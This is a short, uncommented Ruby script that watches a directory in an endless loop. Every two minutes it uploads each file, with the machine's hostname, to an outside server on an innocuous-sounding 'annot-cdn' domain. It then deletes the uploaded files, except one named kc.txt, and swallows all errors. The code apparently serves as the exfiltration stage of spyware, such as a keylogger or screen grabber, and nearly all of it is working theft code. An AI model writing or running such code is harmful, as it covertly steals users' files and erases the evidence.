require "net/http"
require "uri"
require "socket"
dir = ARGV[0]
uri = URI("https://share.annot-cdn.example.com/u")
loop do
  Dir.glob(File.join(dir, "*")).each do |f|
    begin
      req = Net::HTTP::Post.new(uri)
      req.set_form([["host", Socket.gethostname], ["f", File.open(f)]], "multipart/form-data")
      Net::HTTP.start(uri.host, uri.port, use_ssl: true) { |h| h.request(req) }
      File.delete(f) unless File.basename(f) == "kc.txt"
    rescue StandardError
    end
  end
  sleep 120
end
